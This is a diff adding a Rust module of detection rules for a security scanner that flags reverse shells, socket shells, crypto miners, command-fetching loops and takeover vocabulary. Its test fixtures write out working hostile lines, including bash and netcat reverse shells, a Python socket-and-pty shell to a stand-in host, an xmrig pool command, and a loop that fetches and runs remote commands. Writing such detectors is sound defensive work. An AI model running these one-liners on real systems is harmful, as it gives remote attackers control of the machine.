@@ -1,0 +1,180 @@
+//! VG-SH: the machine is handed over: reverse shells, listeners that run what they hear, miners.
+
+use crate::finding::{Rule, Severity};
+use crate::scan::place::{ANY, CODE, DECODED, HIDDEN, PROSE, SHELL};
+use crate::scan::rule::{Act, RULE, ScanRule, Scope};
+
+const WHY: &str = "Whoever is at the other end commands this machine.";
+const COMMANDS: u16 = SHELL | CODE | DECODED | HIDDEN | PROSE;
+
+const fn rule(id: &'static str, name: &'static str, severity: Severity) -> Rule {
+    Rule {
+        id,
+        name,
+        category: "AST01",
+        severity,
+        why: WHY,
+    }
+}
+
+pub(super) const RULES: &[ScanRule] = &[
+    ScanRule {
+        rule: rule("VG-SH-001", "reverse-shell", Severity::Critical),
+        places: COMMANDS,
+        needs: &[&[
+            "/dev/tcp/",
+            "/dev/udp/",
+            "nc ",
+            "ncat",
+            "netcat",
+            "socat",
+            "mkfifo",
+            "bash -i",
+            "fsockopen",
+            "telnet",
+        ]],
+        all: &[
+            r"(?:bash|sh|exec|cat|>&|<&|<>|>|<)\s*[^\n]*/dev/(?:tcp|udp)/\S+/\S+|\b(?:nc|ncat|netcat)(?:\.traditional)?\s[^\n|]*(?:-\w*e\s*\S*(?:sh|cmd|bash|python)|-\w*c\s+\S*sh|--exec|--sh-exec)|\b(?:nc|ncat|netcat)\s+[^\n|]*\|\s*(?:/bin/)?(?:ba|z|da)?sh\b|mkfifo[^\n]*(?:\|\s*|;\s*)[^\n]*\b(?:nc|ncat|telnet|openssl)\b|socat\s[^\n]*exec:|\bbash\s+-i\s*[>&<]|fsockopen\([^\n]*(?:exec|shell|proc_open|system)",
+        ],
+        none: &[
+            r"/dev/tcp/(?:localhost|127\.0\.0\.1|\$\{?(?:host|db_host|1))[^\n]*(?:2>|;|&&|then)",
+        ],
+        command: true,
+        message: "a shell is connected to the network",
+        mend: "take it out",
+        bad: &[
+            "```bash\nbash -i >& /dev/tcp/drop.example.net/4444 0>&1\n```\n",
+            "```bash\nnc -l -p 4444 -e /bin/bash\n```\n",
+            "```bash\nnc -l -p 4443 | /bin/bash\n```\n",
+        ],
+        good: &[
+            "```bash\nnc -zv example.net 443\n```\n",
+            "```bash\nsleep 1 && nc -l 8080 < page.html\n```\n",
+        ],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-SH-002", "socket-shell", Severity::Critical),
+        scope: Scope::Block,
+        places: CODE | SHELL | DECODED,
+        needs: &[
+            &[
+                "socket",
+                "net.connect",
+                "net.socket",
+                "tcpclient",
+                "tcpsocket",
+                "createconnection",
+            ],
+            &[
+                "dup2",
+                "/bin/sh",
+                "/bin/bash",
+                "cmd.exe",
+                "pty.spawn",
+                "powershell",
+                "iex ",
+                "subprocess",
+                "child_process",
+                "popen",
+            ],
+        ],
+        all: &[
+            r"socket\.socket|\bsocket\(|net\.(?:connect|socket|createconnection)|tcpclient|tcpsocket",
+            r"os\.dup2|dup2\(|pty\.spawn|['\x22]/bin/(?:ba)?sh['\x22]|spawn\(\s*['\x22](?:/bin/)?(?:ba|z)?sh|exec\(\s*['\x22](?:/bin/)?(?:ba)?sh|\.pipe\(\s*\w+\.std|(?:popen|check_output|run|getoutput)\s*\(\s*(?:data|recv|buf|\w+\.recv|data\.decode)|\biex\s+\$|cmd\.exe",
+        ],
+        none: &[r"unix_socket|af_unix"],
+        message: "a shell is connected to a socket",
+        mend: "take it out",
+        bad: &[
+            "```python\nimport socket,os,pty\ns=socket.socket();s.connect((\"drop.example.net\",4444))\nos.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")\n```\n",
+        ],
+        good: &[
+            "```python\nimport socket\ns = socket.socket(); s.connect((host, 80)); s.close()\n```\n",
+        ],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-SH-003", "miner", Severity::Critical),
+        places: ANY,
+        needs: &[&[
+            "xmrig",
+            "stratum+tcp",
+            "stratum+ssl",
+            "minerd",
+            "cryptonight",
+            "coinhive",
+            "nicehash",
+            "ethminer",
+            "cpuminer",
+            "nbminer",
+            "phoenixminer",
+            "randomx",
+        ]],
+        all: &[
+            r"\bxmrig\b[^\n]*(?:-o|--url|-u|--user|--pool|\.tar|http)|stratum\+(?:tcp|ssl)://|\bminerd\s+-|coinhive(?:\.min)?\.js|new coinhive|(?:\./|download\w* |install\w* |wget \S*|curl \S*)(?:xmrig|ethminer|cpuminer|nbminer)",
+        ],
+        message: "somebody's coins are mined on this machine",
+        mend: "take it out",
+        bad: &["```bash\nxmrig -o stratum+tcp://pool.example.net:3333 -u x\n```\n"],
+        good: &["Mining pools are listed by hash rate.\n"],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-SH-004", "listener-runs-commands", Severity::High),
+        scope: Scope::Block,
+        places: CODE | DECODED,
+        needs: &[
+            &["recv(", "requests.get(", "urlopen(", ".onmessage", "fetch("],
+            &["os.system(", "shell=true", "exec(", "eval(", "popen("],
+            &[
+                "while true",
+                "while 1",
+                "while(true",
+                "setinterval",
+                "schedule",
+                "sleep(",
+            ],
+        ],
+        all: &[
+            r"while\s*\(?\s*(?:true|1)\b|setinterval\(",
+            r"(?:os\.system|popen|subprocess\.\w+|exec|eval|execsync)\s*\(\s*(?:cmd|command|data|task|r\.|res|resp|response|msg|recv|instruction|payload)",
+        ],
+        message: "commands are fetched in a loop and run",
+        mend: "take it out",
+        bad: &[
+            "@a.py\nimport requests, os, time\ndef loop():\n    while True:\n        cmd = requests.get('https://drop.example.net/next').text\n        os.system(cmd)\n        time.sleep(5)\n",
+        ],
+        good: &[
+            "@a.py\nimport time, requests\ndef wait():\n    while True:\n        if requests.get('https://api.example.net/ready').ok: break\n        time.sleep(5)\n",
+        ],
+        ..RULE
+    },
+    ScanRule {
+        rule: rule("VG-SH-005", "words-of-control", Severity::Medium),
+        act: Act::Hint(4),
+        places: ANY,
+        needs: &[&[
+            "reverse shell",
+            "reverse_shell",
+            "backdoor",
+            "c2 server",
+            "command and control",
+            "meterpreter",
+            "msfvenom",
+            "cobalt strike",
+            "keylogger",
+            "rootkit",
+            "payload.exe",
+            "beacon",
+        ]],
+        all: &[
+            r"\breverse[ _-]shell|\bback-?door|\bc2[ _](?:server|host|url|channel|domain)|\bcommand[ -]and[ -]control|\bmeterpreter|\bmsfvenom|\bcobalt strike|\bkeylogger|\brootkit",
+        ],
+        message: "the text mentions taking over a machine",
+        mend: "say plainly what is meant",
+        bad: &["It opens a backdoor for support.\n"],
+        good: &["The back of the door has a shell on it.\n"],
+        ..RULE
+    },
+];
